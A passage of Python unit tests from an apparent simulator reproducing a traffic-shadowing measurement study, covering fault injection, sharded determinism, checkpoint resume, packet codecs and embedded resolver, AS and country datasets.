                assert topology.known_router(location.observer_address) is not None

    def test_normalized_hops_in_range(self, result):
        for location in result.locations:
            normalized = location.normalized_hop()
            if normalized is not None:
                assert 1 <= normalized <= 10

    def test_phase2_probe_domains_differ_from_phase1(self, result):
        phase1_domains = {record.domain for record in result.ledger.records(phase=1)}
        phase2_domains = {record.domain for record in result.ledger.records(phase=2)}
        assert phase1_domains.isdisjoint(phase2_domains)


class TestDeterminism:
    def test_same_seed_same_results(self):
        config = ExperimentConfig.tiny(seed=777)
        first = Experiment(config).run()
        second = Experiment(ExperimentConfig.tiny(seed=777)).run()
        assert len(first.ledger) == len(second.ledger)
        assert len(first.log) == len(second.log)
        assert len(first.phase1.events) == len(second.phase1.events)
        first_combos = [event.combo for event in first.phase1.events]
        second_combos = [event.combo for event in second.phase1.events]
        assert first_combos == second_combos

    def test_different_seed_differs(self):
        first = Experiment(ExperimentConfig.tiny(seed=1)).run()
        second = Experiment(ExperimentConfig.tiny(seed=2)).run()
        assert (
            len(first.log) != len(second.log)
            or [event.combo for event in first.phase1.events]
            != [event.combo for event in second.phase1.events]
        )


class TestTimings:
    def test_timings_recorded(self, result):
        assert result.timings is not None
        for key in ("build", "phase1", "phase2", "correlate", "total",
                    "virtual_span"):
            assert key in result.timings
            assert result.timings[key] >= 0
        assert result.timings["total"] >= result.timings["phase1"]
        # The virtual campaign spans at least the observation window.
        assert result.timings["virtual_span"] >= \
            result.config.observation_window

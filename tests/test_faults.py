"""Fault injection and crash tolerance.

Two guarantees are pinned here:

* **Determinism under faults** — with a fault spec attached, the serial
  run, the fault-free 4-worker run, a worker-killed-and-respawned run,
  and a checkpoint-resumed run all produce byte-identical result digests
  (the acceptance property of the robustness layer).
* **Graceful degradation** — injected faults never raise and never leave
  silent holes: every lost packet, retry, abandoned send, deferred VP,
  dropped/delayed/duplicated log append is visible as a telemetry
  counter.

Plus the unit behaviour those guarantees rest on: keyed fault draws,
outage-window arithmetic, spec validation, supervisor policy, and the
checkpoint store's resume contract.
"""

import dataclasses
import os

import pytest

from repro.core.checkpoint import CheckpointError, CheckpointStore
from repro.core.config import ExperimentConfig
from repro.core.experiment import Experiment
from repro.core.shard import (
    SupervisorPolicy,
    result_digest,
    run_sharded,
)
from repro.faults import FaultPlan, FaultSpec, OutageWindow

SEED = 77003

# Churn/outage windows are squeezed into the first virtual hour so they
# overlap the tiny config's short Phase I send span; the defaults target
# multi-day campaigns.
FULL_WEATHER = FaultSpec(
    seed=7,
    link_loss_rate=0.05,
    vp_churn_rate=0.4,
    vp_outage_horizon=3600.0,
    vp_outage_duration=(60.0, 900.0),
    honeypot_outages_per_site=2,
    log_delay_rate=0.1,
    log_duplicate_rate=0.05,
)


def _faulted_config(workers: int = 1) -> ExperimentConfig:
    config = ExperimentConfig.tiny(seed=SEED)
    config.workers = workers
    config.faults = FULL_WEATHER
    config.telemetry = True
    return config


@pytest.fixture(scope="module")
def serial_faulted():
    return Experiment(_faulted_config()).run()


@pytest.fixture(scope="module")
def sharded_faulted():
    return Experiment(_faulted_config(workers=4)).run()


@pytest.fixture(scope="module")
def killed_and_resumed(tmp_path_factory):
    """One 4-worker faulted run with a worker killed after Phase I and
    checkpoints flushed, then a resume of the same directory after its
    last two final payloads are deleted (simulating a crashed parent)."""
    checkpoint_dir = tmp_path_factory.mktemp("faults-ckpt")
    killed = run_sharded(
        _faulted_config(workers=4),
        checkpoint_dir=checkpoint_dir,
        supervision=SupervisorPolicy(kill_after_phase1=1),
    )
    os.remove(checkpoint_dir / "shard-02.final.bin")
    os.remove(checkpoint_dir / "shard-03.final.bin")
    resumed = run_sharded(resume_dir=checkpoint_dir)
    return killed, resumed


class TestDeterminismUnderFaults:
    def test_sharded_faulted_equals_serial_faulted(self, serial_faulted,
                                                   sharded_faulted):
        assert result_digest(sharded_faulted) == result_digest(serial_faulted)

    def test_worker_kill_respawn_equals_serial(self, serial_faulted,
                                               killed_and_resumed):
        killed, _ = killed_and_resumed
        assert result_digest(killed) == result_digest(serial_faulted)
        assert killed.timings["shard_respawns"] == 1.0

    def test_resume_equals_serial(self, serial_faulted, killed_and_resumed):
        _, resumed = killed_and_resumed
        assert result_digest(resumed) == result_digest(serial_faulted)

    def test_fault_counters_merge_exactly(self, serial_faulted,
                                          sharded_faulted):
        serial = serial_faulted.telemetry.metrics.snapshot()["counters"]
        sharded = sharded_faulted.telemetry.metrics.snapshot()["counters"]
        for name in ("faults.packets_lost", "campaign.send_retries",
                     "faults.sends_abandoned", "faults.vp_churn_deferrals",
                     "faults.honeypot_dropped", "faults.log_delayed",
                     "faults.log_duplicated"):
            assert sharded[name]["value"] == serial[name]["value"], name

    def test_faults_actually_happened(self, serial_faulted):
        counters = serial_faulted.telemetry.metrics.snapshot()["counters"]
        for name in ("faults.packets_lost", "campaign.send_retries",
                     "faults.vp_churn_deferrals", "faults.honeypot_dropped",
                     "faults.log_delayed", "faults.log_duplicated"):
            assert counters[name]["value"] > 0, name

    def test_faulted_digest_differs_from_fault_free(self, serial_faulted):
        clean = ExperimentConfig.tiny(seed=SEED)
        fault_free = Experiment(clean).run()
        assert result_digest(fault_free) != result_digest(serial_faulted)


class TestGracefulDegradation:
    def test_heavy_loss_completes_and_counts_abandonment(self):
        config = ExperimentConfig.tiny(seed=SEED)
        config.faults = FaultSpec(seed=3, link_loss_rate=0.5, max_retries=2)
        config.telemetry = True
        result = Experiment(config).run()  # must not raise
        counters = result.telemetry.metrics.snapshot()["counters"]
        assert counters["faults.packets_lost"]["value"] > 0
        assert counters["campaign.send_retries"]["value"] > 0
        assert counters["faults.sends_abandoned"]["value"] > 0
        # Abandonment degrades results, never empties them.
        assert len(result.ledger) > 0

    def test_zero_rate_spec_is_identity(self):
        config = ExperimentConfig.tiny(seed=SEED)
        baseline = result_digest(Experiment(config).run())
        noop = ExperimentConfig.tiny(seed=SEED)
        noop.faults = FaultSpec(seed=99)
        assert result_digest(Experiment(noop).run()) == baseline


class TestFaultPlanUnits:
    def test_loss_draws_are_pure_functions_of_keys(self):
        spec = FaultSpec(seed=11, link_loss_rate=0.3)
        first = FaultPlan(spec)
        second = FaultPlan(spec)
        for domain in ("a.example", "b.example"):
            for attempt in range(3):
                assert (first.loss_link(domain, attempt, 8, 64)
                        == second.loss_link(domain, attempt, 8, 64))

    def test_retransmissions_get_fresh_loss_draws(self):
        plan = FaultPlan(FaultSpec(seed=11, link_loss_rate=0.5))
        draws = {plan.loss_link("x.example", attempt, 10, 64)
                 for attempt in range(8)}
        assert len(draws) > 1

    def test_loss_respects_ttl_reach(self):
        plan = FaultPlan(FaultSpec(seed=11, link_loss_rate=1.0))
        assert plan.loss_link("d", 0, 10, 64) == 1
        # A TTL-1 probe only crosses the access link.
        assert plan.loss_link("d", 0, 10, 1) == 1

    def test_zero_rate_never_loses(self):
        plan = FaultPlan(FaultSpec(seed=11))
        assert plan.loss_link("d", 0, 10, 64) is None

    def test_vp_outage_cached_and_deterministic(self):
        spec = FaultSpec(seed=5, vp_churn_rate=1.0)
        plan = FaultPlan(spec)
        window = plan.vp_outage("10.0.0.1")
        assert window is not None
        assert plan.vp_outage("10.0.0.1") is window
        assert FaultPlan(spec).vp_outage("10.0.0.1") == window

    def test_defer_past_vp_outage(self):
        plan = FaultPlan(FaultSpec(seed=5, vp_churn_rate=1.0))
        window = plan.vp_outage("10.0.0.2")
        inside = (window.start + window.end) / 2
        assert plan.defer_past_vp_outage("10.0.0.2", inside) == window.end
        assert plan.defer_past_vp_outage("10.0.0.2", window.end) == window.end
        before = window.start - 1.0
        assert plan.defer_past_vp_outage("10.0.0.2", before) == before

    def test_site_outages_sorted_and_counted(self):
        plan = FaultPlan(FaultSpec(seed=5, honeypot_outages_per_site=3))
        windows = plan.site_outages("US")
        assert len(windows) == 3
        assert list(windows) == sorted(windows, key=lambda w: w.start)
        assert plan.site_online("US", windows[0].start) is False
        assert plan.site_online("US", windows[0].end) in (True, False)

    def test_log_append_fault_keyed_by_content(self):
        spec = FaultSpec(seed=5, log_delay_rate=0.5, log_duplicate_rate=0.5)
        first = FaultPlan(spec)
        second = FaultPlan(spec)
        key = ("US", "dns", "192.0.2.1", "x.example", 100.0)
        assert first.log_append_fault(*key) == second.log_append_fault(*key)

    def test_retry_backoff_doubles(self):
        plan = FaultPlan(FaultSpec(seed=0, retry_backoff_base=2.0))
        assert [plan.retry_backoff(n) for n in range(4)] == [2.0, 4.0, 8.0, 16.0]

    def test_outage_window_validation(self):
        with pytest.raises(ValueError, match="end after it starts"):
            OutageWindow(5.0, 5.0)

    @pytest.mark.parametrize("bad", [
        dict(link_loss_rate=1.5),
        dict(vp_churn_rate=-0.1),
        dict(max_retries=-1),
        dict(retry_backoff_base=0.0),
        dict(honeypot_outages_per_site=-2),
        dict(vp_outage_duration=(0.0, 10.0)),
    ])
    def test_spec_validation(self, bad):
        with pytest.raises(ValueError):
            FaultSpec(**bad)

    def test_any_faults_and_affects_log(self):
        assert not FaultSpec().any_faults
        assert FaultSpec(link_loss_rate=0.1).any_faults
        assert not FaultSpec(link_loss_rate=0.1).affects_log
        assert FaultSpec(log_delay_rate=0.1).affects_log


class TestSupervisorPolicy:
    def test_defaults_valid(self):
        policy = SupervisorPolicy()
        assert policy.worker_timeout > policy.heartbeat_interval
        assert policy.kill_after_phase1 is None

    @pytest.mark.parametrize("bad", [
        dict(heartbeat_interval=0.0),
        dict(worker_timeout=0.1, heartbeat_interval=0.5),
        dict(max_respawns=-1),
    ])
    def test_validation(self, bad):
        with pytest.raises(ValueError):
            SupervisorPolicy(**bad)


class TestCheckpointStore:
    def test_resume_requires_meta(self, tmp_path):
        store = CheckpointStore(tmp_path)
        with pytest.raises(CheckpointError, match="meta.json"):
            store.load_meta()

    def test_seed_mismatch_rejected(self, tmp_path):
        config = ExperimentConfig.tiny(seed=1)
        config.workers = 2
        CheckpointStore(tmp_path).save_run(config, 2)
        other = ExperimentConfig.tiny(seed=2)
        other.workers = 2
        with pytest.raises(CheckpointError, match="cannot resume"):
            run_sharded(other, resume_dir=tmp_path)

    def test_round_trips_config_and_payload_flags(self, tmp_path):
        config = ExperimentConfig.tiny(seed=9)
        config.workers = 3
        store = CheckpointStore(tmp_path)
        store.save_run(config, 3)
        assert store.load_config().seed == 9
        assert store.load_meta()["shard_count"] == 3
        assert store.completed_shards(3) == []
        assert not store.has_phase1(0)
        assert store.load_phase2_plan() is None

    def test_writes_are_atomic(self, tmp_path):
        store = CheckpointStore(tmp_path)
        store.save_phase2_plan([[], []])
        assert not list(tmp_path.glob("*.tmp"))
        assert store.load_phase2_plan() == [[], []]


class TestLostTransit:
    def test_lost_packet_seen_by_hops_before_the_lossy_link(self):
        from repro.core.campaign import Campaign
        from repro.core.ecosystem import build_ecosystem
        from repro.core.identifier import DecoyIdentity
        from repro.net.path import TransitOutcome

        eco = build_ecosystem(ExperimentConfig.tiny(seed=SEED))
        campaign = Campaign(eco)
        vp = eco.platform.vantage_points[0]
        destination = eco.dns_destinations[0]
        info = campaign.path_info(
            vp, destination.address,
            destination_asn=eco.directory.asn_of(destination.address) or 0,
            destination_country=destination.country,
            service_name=destination.name,
        )
        identity = DecoyIdentity(sent_at=0, vp_address=vp.address,
                                 dst_address=destination.address, ttl=64,
                                 sequence=1)
        packet = campaign.factory.build(identity, "dns").packet
        result = info.path.transit(packet, loss_at=2)
        assert result.outcome is TransitOutcome.LOST
        assert result.final_position == 1
        assert result.icmp is None
        assert not result.delivered
        # The access-link hop processed the packet before the fault.
        assert [position for position, _ in result.observed_by] == [1]

"""Tests for the embedded datasets (Tables 4/5, countries, ASes, Tranco pool)."""

import pytest

from repro.datasets.asns import (
    ASES_BY_NUMBER,
    NAMED_ASES,
    SYNTHETIC_ASN_BASE,
    lookup_as,
    synthetic_asn,
)
from repro.datasets.countries import (
    ALL_COUNTRIES,
    CN_PROVINCES,
    GLOBAL_COUNTRIES,
    country_weight,
)
from repro.datasets.providers import (
    ALL_PROVIDERS,
    CN_PROVIDERS,
    GLOBAL_PROVIDERS,
    PAPER_TOTAL_VP_COUNT,
)
from repro.datasets.resolvers import (
    ALL_DNS_DESTINATIONS,
    PUBLIC_RESOLVERS,
    RESOLVER_H_NAMES,
    ROOT_SERVERS,
    TLD_SERVERS,
    is_resolver_h,
    resolver_h,
)
from repro.datasets.tranco import generate_web_destinations, sample_web_destinations
from repro.net.addr import is_valid_ipv4, same_slash24
from repro.simkit.rng import RandomRouter


class TestResolvers:
    def test_twenty_public_resolvers(self):
        assert len(PUBLIC_RESOLVERS) == 20

    def test_thirteen_roots_two_tlds(self):
        assert len(ROOT_SERVERS) == 13
        assert len(TLD_SERVERS) == 2

    def test_total_destinations_is_36(self):
        # 20 public + 1 self-built + 13 roots + 2 TLDs, as in Section 4.
        assert len(ALL_DNS_DESTINATIONS) == 36

    def test_all_addresses_valid_and_unique(self):
        addresses = [destination.address for destination in ALL_DNS_DESTINATIONS]
        assert all(is_valid_ipv4(address) for address in addresses)
        assert len(set(addresses)) == len(addresses)

    def test_known_paper_addresses(self):
        by_name = {destination.name: destination.address
                   for destination in PUBLIC_RESOLVERS}
        assert by_name["Google"] == "8.8.8.8"
        assert by_name["Yandex"] == "77.88.8.8"
        assert by_name["114DNS"] == "114.114.114.114"
        assert by_name["Cloudflare"] == "1.1.1.1"

    def test_resolver_h_set(self):
        names = {destination.name for destination in resolver_h()}
        assert names == {"Yandex", "114DNS", "OneDNS", "DNSPAI", "Vercara"}
        assert is_resolver_h("Yandex")
        assert not is_resolver_h("Google")

    def test_pair_address_shares_slash24_but_differs(self):
        for destination in PUBLIC_RESOLVERS:
            pair = destination.pair_address
            assert pair != destination.address
            assert same_slash24(pair, destination.address)

    def test_pair_address_avoids_network_and_broadcast(self):
        for destination in ALL_DNS_DESTINATIONS:
            last_octet = int(destination.pair_address.split(".")[-1])
            assert 1 <= last_octet <= 254


class TestProviders:
    def test_six_global_thirteen_cn(self):
        assert len(GLOBAL_PROVIDERS) == 6
        assert len(CN_PROVIDERS) == 13
        assert len(ALL_PROVIDERS) == 19

    def test_all_datacenter(self):
        assert all(provider.datacenter for provider in ALL_PROVIDERS)

    def test_shares_sum_to_one_per_region(self):
        for providers in (GLOBAL_PROVIDERS, CN_PROVIDERS):
            assert sum(provider.vp_share for provider in providers) == pytest.approx(1.0)

    def test_paper_totals(self):
        assert PAPER_TOTAL_VP_COUNT == 4364


class TestCountries:
    def test_82_countries_total(self):
        assert len(ALL_COUNTRIES) == 82
        assert len(set(ALL_COUNTRIES)) == 82

    def test_cn_not_in_global_list(self):
        assert "CN" not in GLOBAL_COUNTRIES

    def test_30_provinces(self):
        assert len(CN_PROVINCES) == 30
        assert len(set(CN_PROVINCES)) == 30

    def test_weights_positive(self):
        assert country_weight("US") > country_weight("AL") > 0


class TestAsns:
    def test_named_ases_unique(self):
        numbers = [system.asn for system in NAMED_ASES]
        assert len(set(numbers)) == len(numbers)

    def test_paper_ases_present(self):
        assert ASES_BY_NUMBER[4134].name == "CHINANET-BACKBONE"
        assert ASES_BY_NUMBER[15169].name == "Google LLC"
        assert ASES_BY_NUMBER[29988].country == "CA"

    def test_synthetic_asn_range(self):
        assert synthetic_asn(0) == SYNTHETIC_ASN_BASE
        with pytest.raises(ValueError):
            synthetic_asn(-1)

    def test_lookup_named_and_synthetic(self):
        assert lookup_as(4134).country == "CN"
        assert lookup_as(synthetic_asn(7)).name == "SYNTH-7"
        with pytest.raises(KeyError):
            lookup_as(64512)


class TestTranco:
    def test_deterministic(self):
        first = generate_web_destinations(RandomRouter(1), site_count=50)
        second = generate_web_destinations(RandomRouter(1), site_count=50)
        assert first == second

    def test_different_seed_differs(self):
        first = generate_web_destinations(RandomRouter(1), site_count=50)
        second = generate_web_destinations(RandomRouter(2), site_count=50)
        assert first != second

    def test_addresses_unique(self):
        pool = generate_web_destinations(RandomRouter(3), site_count=100)
        addresses = [destination.address for destination in pool]
        assert len(set(addresses)) == len(addresses)

    def test_as_pool_capped(self):
        pool = generate_web_destinations(RandomRouter(3), site_count=300, as_pool_size=50)
        assert len({destination.asn for destination in pool}) <= 50

    def test_country_mix_us_heavy(self):
        pool = generate_web_destinations(RandomRouter(4), site_count=400)
        from collections import Counter
        counts = Counter(destination.country for destination in pool)
        assert counts["US"] > counts.get("CN", 0) > 0

    def test_rejects_bad_site_count(self):
        with pytest.raises(ValueError):
            generate_web_destinations(RandomRouter(1), site_count=0)

    def test_sampling_is_deterministic_and_bounded(self):
        router = RandomRouter(5)
        pool = generate_web_destinations(router, site_count=80)
        sample_a = sample_web_destinations(RandomRouter(5), pool, 20)
        sample_b = sample_web_destinations(RandomRouter(5), pool, 20)
        assert sample_a == sample_b
        assert len(sample_a) == 20

    def test_sampling_more_than_pool_returns_pool(self):
        router = RandomRouter(5)
        pool = generate_web_destinations(router, site_count=10)
        assert len(sample_web_destinations(router, pool, 10_000)) == len(pool)

"""Sharded executor determinism: N workers == serial, exactly.

The acceptance property of the sharded campaign executor is that a run
with any worker count produces results *identical* to the serial run on
the same config and seed — same ledger, same honeypot log, same
correlated shadowing events, same label counts, same observer locations.
These tests pin that guarantee at 2 and 4 shards, plus the unit-level
pieces it rests on (keyed substreams, stable pair partition, log merge,
O(1) pending counter).
"""

import random

import pytest

from repro.core.campaign import pair_shard
from repro.core.config import ExperimentConfig
from repro.core.experiment import Experiment
from repro.core.shard import (
    events_digest,
    ledger_digest,
    log_digest,
    result_digest,
)
from repro.honeypot.logstore import LoggedRequest, LogStore
from repro.simkit.events import Simulator
from repro.simkit.rng import RandomRouter, SubstreamFactory

SEED = 77003


def _run(workers: int):
    config = ExperimentConfig.tiny(seed=SEED)
    config.workers = workers
    return Experiment(config).run()


@pytest.fixture(scope="module")
def serial():
    return _run(1)


@pytest.fixture(scope="module", params=[2, 4])
def sharded(request):
    return _run(request.param)


class TestShardedRunEqualsSerial:
    def test_ledger_domains_identical(self, serial, sharded):
        assert ([r.domain for r in serial.ledger.records()]
                == [r.domain for r in sharded.ledger.records()])

    def test_ledger_digest_identical(self, serial, sharded):
        assert ledger_digest(serial.ledger) == ledger_digest(sharded.ledger)

    def test_log_identical_including_order(self, serial, sharded):
        assert serial.log.all() == sharded.log.all()
        assert log_digest(serial.log) == log_digest(sharded.log)

    def test_shadowing_event_sequences_identical(self, serial, sharded):
        for phase in ("phase1", "phase2"):
            ours = getattr(serial, phase).events
            theirs = getattr(sharded, phase).events
            assert (
                [(e.decoy.domain, e.request.time, e.combo, e.origin_address)
                 for e in ours]
                == [(e.decoy.domain, e.request.time, e.combo, e.origin_address)
                    for e in theirs]
            )
            assert events_digest(ours) == events_digest(theirs)

    def test_label_counts_identical(self, serial, sharded):
        assert serial.eco.sim.label_counts == sharded.eco.sim.label_counts
        assert serial.eco.sim.processed == sharded.eco.sim.processed

    def test_locations_identical(self, serial, sharded):
        def rows(result):
            return [
                (l.vp_id, l.destination_address, l.protocol, l.trigger_ttl,
                 l.observer_address, l.observer_asn, l.observer_country)
                for l in result.locations
            ]
        assert rows(serial) == rows(sharded)

    def test_result_digest_byte_identical(self, serial, sharded):
        assert result_digest(serial) == result_digest(sharded)

    def test_vetting_and_virtual_span_identical(self, serial, sharded):
        assert len(serial.vetting.kept) == len(sharded.vetting.kept)
        assert (serial.timings["virtual_span"]
                == sharded.timings["virtual_span"])

    def test_ground_truth_identical(self, serial, sharded):
        def rows(result):
            return [
                (o.exhibitor, o.domain, o.observed_at, o.observed_from,
                 o.leveraged, o.scheduled_requests)
                for o in result.eco.ground_truth.observations
            ]
        assert rows(serial) == rows(sharded)


class TestPairShard:
    def test_stable_across_calls(self):
        assert (pair_shard("10.0.0.1", "8.8.8.8", 4)
                == pair_shard("10.0.0.1", "8.8.8.8", 4))

    def test_single_shard_owns_everything(self):
        assert pair_shard("10.0.0.1", "8.8.8.8", 1) == 0

    def test_partition_is_total(self):
        for count in (2, 3, 8):
            shard = pair_shard("10.0.0.1", "9.9.9.9", count)
            assert 0 <= shard < count

    def test_pairs_spread_over_shards(self):
        shards = {
            pair_shard(f"10.0.{i}.1", "8.8.8.8", 4) for i in range(64)
        }
        assert shards == {0, 1, 2, 3}

    def test_known_assignments_pinned(self):
        # The partition is a pure SHA-256 content hash; these values must
        # never change, or sharded replays of old configs would compute a
        # different campaign than they did when recorded.
        expected = {
            ("10.0.0.1", "8.8.8.8"): (1, 1, 1),
            ("10.0.0.2", "8.8.8.8"): (0, 2, 2),
            ("203.0.113.7", "114.114.114.114"): (1, 1, 5),
            ("198.51.100.23", "1.2.4.8"): (0, 2, 2),
        }
        for (vp, destination), shards in expected.items():
            assert tuple(
                pair_shard(vp, destination, count) for count in (2, 4, 8)
            ) == shards

    def test_asymmetric_in_pair_order(self):
        # (vp, dst) and (dst, vp) are different pairs and may hash apart;
        # the partition must key on the ordered pair.
        assert (pair_shard("10.0.0.1", "8.8.8.8", 8)
                != pair_shard("8.8.8.8", "10.0.0.1", 8))


class TestSubstreamFactory:
    def test_same_keys_same_draws(self):
        factory = RandomRouter(99).substreams("ns")
        assert (factory.derive("a", 1).random()
                == factory.derive("a", 1).random())

    def test_different_keys_differ(self):
        factory = RandomRouter(99).substreams("ns")
        assert (factory.derive("a").random()
                != factory.derive("b").random())

    def test_independent_of_stream_consumption(self):
        router = RandomRouter(99)
        before = router.substreams("ns").derive("key").random()
        router.stream("ns").random()  # burn the sequential stream
        after = router.substreams("ns").derive("key").random()
        assert before == after

    def test_distinct_from_stream_derivation(self):
        router = RandomRouter(99)
        assert (router.substreams("ns").derive().random()
                != router.stream("ns").random())

    def test_scoped_matches_extra_keys(self):
        factory = SubstreamFactory(7, "base")
        assert (factory.scoped("a").derive("b").random()
                == factory.derive("a", "b").random())

    def test_pickles(self):
        import pickle
        factory = SubstreamFactory(7, "base")
        clone = pickle.loads(pickle.dumps(factory))
        assert clone == factory
        assert clone.derive("k").random() == factory.derive("k").random()


class TestLogStoreMerge:
    def _entry(self, time, domain):
        return LoggedRequest(time=time, site="US", protocol="dns",
                             src_address="192.0.2.1", domain=domain)

    def test_interleaves_by_time(self):
        merged = LogStore.merged([
            [self._entry(1.0, "a"), self._entry(3.0, "c")],
            [self._entry(2.0, "b")],
        ])
        assert [e.domain for e in merged] == ["a", "b", "c"]

    def test_ties_break_by_shard_position(self):
        merged = LogStore.merged([
            [self._entry(1.0, "shard0")],
            [self._entry(1.0, "shard1")],
        ])
        assert [e.domain for e in merged] == ["shard0", "shard1"]

    def test_empty_shards_allowed(self):
        merged = LogStore.merged([[], [self._entry(1.0, "x")], []])
        assert len(merged) == 1

    def test_no_stores_yields_empty_log(self):
        merged = LogStore.merged([])
        assert len(merged) == 0
        assert list(merged.all()) == []

    def test_single_store_preserved_verbatim(self):
        entries = [self._entry(1.0, "a"), self._entry(2.0, "b"),
                   self._entry(2.0, "c")]
        merged = LogStore.merged([entries])
        # One store needs no interleaving: its arrival order (including
        # same-timestamp tie order) is the serial order and must survive.
        assert [e.domain for e in merged] == ["a", "b", "c"]

    def test_out_of_order_shard_entries_rejected(self):
        # Each shard's simulator guarantees monotonic log time; merged()
        # leans on that, and the store's append guard turns a violation
        # into a hard error rather than a silently misordered log.
        with pytest.raises(ValueError, match="time order"):
            LogStore.merged([[self._entry(2.0, "b"), self._entry(1.0, "a")]])

    def test_all_identical_timestamps_order_by_shard_then_position(self):
        merged = LogStore.merged([
            [self._entry(5.0, "s0a"), self._entry(5.0, "s0b")],
            [self._entry(5.0, "s1a")],
            [self._entry(5.0, "s2a"), self._entry(5.0, "s2b")],
        ])
        assert [e.domain for e in merged] == [
            "s0a", "s0b", "s1a", "s2a", "s2b"]


class TestPendingCounter:
    def test_counter_tracks_push_pop_cancel(self):
        sim = Simulator()
        first = sim.schedule_at(1.0, lambda: None)
        sim.schedule_at(2.0, lambda: None)
        assert sim.pending == 2
        first.cancel()
        assert sim.pending == 1
        sim.run()
        assert sim.pending == 0

    def test_double_cancel_counts_once(self):
        sim = Simulator()
        event = sim.schedule_at(1.0, lambda: None)
        event.cancel()
        event.cancel()
        assert sim.pending == 0

    def test_cancel_after_fire_does_not_underflow(self):
        sim = Simulator()
        event = sim.schedule_at(1.0, lambda: None)
        sim.schedule_at(2.0, lambda: None)
        sim.run(until=1.0)
        event.cancel()
        assert sim.pending == 1

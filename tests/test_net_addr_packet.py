"""Tests for address helpers and the IPv4/UDP/TCP packet codecs."""

import pytest

from repro.net import (
    InvalidAddressError,
    IPv4Header,
    Packet,
    PacketDecodeError,
    TCPSegment,
    UDPSegment,
    checksum16,
    ip_from_int,
    ip_to_int,
    is_valid_ipv4,
    same_slash24,
    slash24,
)


class TestAddressHelpers:
    def test_roundtrip(self):
        for address in ("0.0.0.0", "1.2.3.4", "255.255.255.255", "114.114.114.114"):
            assert ip_from_int(ip_to_int(address)) == address

    def test_known_value(self):
        assert ip_to_int("1.0.0.1") == (1 << 24) + 1

    @pytest.mark.parametrize("bad", ["1.2.3", "1.2.3.4.5", "1.2.3.256", "a.b.c.d", "01.2.3.4", "", "1.2.3.4 "])
    def test_rejects_malformed(self, bad):
        with pytest.raises(InvalidAddressError):
            ip_to_int(bad)
        assert not is_valid_ipv4(bad)

    def test_is_valid_accepts_good(self):
        assert is_valid_ipv4("8.8.8.8")

    def test_ip_from_int_rejects_out_of_range(self):
        with pytest.raises(InvalidAddressError):
            ip_from_int(-1)
        with pytest.raises(InvalidAddressError):
            ip_from_int(2**32)

    def test_slash24(self):
        assert slash24("1.1.1.1") == "1.1.1.0/24"

    def test_same_slash24_true_for_pair_resolver(self):
        # Appendix E: 1.1.1.4 is the pair resolver of 1.1.1.1.
        assert same_slash24("1.1.1.1", "1.1.1.4")

    def test_same_slash24_false_across_prefixes(self):
        assert not same_slash24("1.1.1.1", "1.1.2.1")


class TestChecksum:
    def test_checksum_of_zeroes(self):
        assert checksum16(b"\x00\x00\x00\x00") == 0xFFFF

    def test_checksum_validates_to_zero(self):
        header = IPv4Header(src="1.2.3.4", dst="5.6.7.8", ttl=64, protocol=17).encode()
        assert checksum16(header) == 0

    def test_odd_length_padding(self):
        # Must not raise and must be stable.
        assert checksum16(b"\x01") == checksum16(b"\x01\x00")


class TestIPv4Header:
    def test_roundtrip(self):
        header = IPv4Header(src="10.0.0.1", dst="8.8.8.8", ttl=37,
                            protocol=17, identification=777, payload_length=100)
        assert IPv4Header.decode(header.encode()) == header

    def test_rejects_bad_ttl(self):
        with pytest.raises(ValueError):
            IPv4Header(src="1.1.1.1", dst="2.2.2.2", ttl=256, protocol=17)

    def test_rejects_unknown_protocol(self):
        with pytest.raises(ValueError):
            IPv4Header(src="1.1.1.1", dst="2.2.2.2", ttl=64, protocol=99)

    def test_decode_detects_corruption(self):
        raw = bytearray(IPv4Header(src="1.1.1.1", dst="2.2.2.2", ttl=64, protocol=17).encode())
        raw[8] ^= 0xFF  # flip the TTL byte
        with pytest.raises(PacketDecodeError):
            IPv4Header.decode(bytes(raw))

    def test_decode_rejects_short_buffer(self):
        with pytest.raises(PacketDecodeError):
            IPv4Header.decode(b"\x45\x00")


class TestSegments:
    def test_udp_roundtrip(self):
        segment = UDPSegment(src_port=5353, dst_port=53, payload=b"hello dns")
        assert UDPSegment.decode(segment.encode()) == segment

    def test_udp_length_mismatch_detected(self):
        raw = bytearray(UDPSegment(src_port=1, dst_port=2, payload=b"abc").encode())
        with pytest.raises(PacketDecodeError):
            UDPSegment.decode(bytes(raw) + b"extra")

    def test_udp_rejects_bad_port(self):
        with pytest.raises(ValueError):
            UDPSegment(src_port=-1, dst_port=53)

    def test_tcp_roundtrip(self):
        segment = TCPSegment(src_port=44211, dst_port=443, seq=1000, ack=2000,
                             flags=TCPSegment.FLAG_PSH | TCPSegment.FLAG_ACK,
                             payload=b"GET / HTTP/1.1\r\n\r\n")
        assert TCPSegment.decode(segment.encode()) == segment

    def test_tcp_rejects_short_buffer(self):
        with pytest.raises(PacketDecodeError):
            TCPSegment.decode(b"\x00" * 10)


class TestPacket:
    def test_udp_packet_roundtrip(self):
        packet = Packet.udp(src="10.0.0.1", dst="8.8.8.8", ttl=64,
                            src_port=40000, dst_port=53, payload=b"query")
        assert Packet.decode(packet.encode()) == packet

    def test_tcp_packet_roundtrip(self):
        packet = Packet.tcp(src="10.0.0.1", dst="93.184.216.34", ttl=64,
                            src_port=40000, dst_port=80, payload=b"GET /")
        assert Packet.decode(packet.encode()) == packet

    def test_with_ttl_changes_only_ttl(self):
        packet = Packet.udp(src="1.1.1.2", dst="8.8.8.8", ttl=64,
                            src_port=1234, dst_port=53, payload=b"x")
        retitled = packet.with_ttl(3)
        assert retitled.ip.ttl == 3
        assert retitled.transport == packet.transport
        assert retitled.ip.src == packet.ip.src

    def test_decrement_ttl(self):
        packet = Packet.udp(src="1.1.1.2", dst="8.8.8.8", ttl=2,
                            src_port=1234, dst_port=53, payload=b"x")
        assert packet.decrement_ttl().ip.ttl == 1
        with pytest.raises(ValueError):
            packet.decrement_ttl().decrement_ttl().decrement_ttl()

    def test_payload_property(self):
        packet = Packet.udp(src="1.1.1.2", dst="8.8.8.8", ttl=9,
                            src_port=1, dst_port=53, payload=b"qq")
        assert packet.payload == b"qq"

    def test_decode_rejects_length_disagreement(self):
        packet = Packet.udp(src="1.1.1.2", dst="8.8.8.8", ttl=9,
                            src_port=1, dst_port=53, payload=b"qq")
        with pytest.raises(PacketDecodeError):
            Packet.decode(packet.encode() + b"trailing-garbage")

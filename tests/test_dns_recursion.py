"""Tests for the iterative resolution chain and QNAME minimization."""

import pytest

from repro.protocols.dns.recursion import (
    DnsHierarchy,
    IterativeResolver,
    ResolutionError,
    UpstreamQuery,
)

DECOY = "g6d8jjkut5obc4-9982.www.experiment.domain"


def make_hierarchy() -> DnsHierarchy:
    hierarchy = DnsHierarchy()
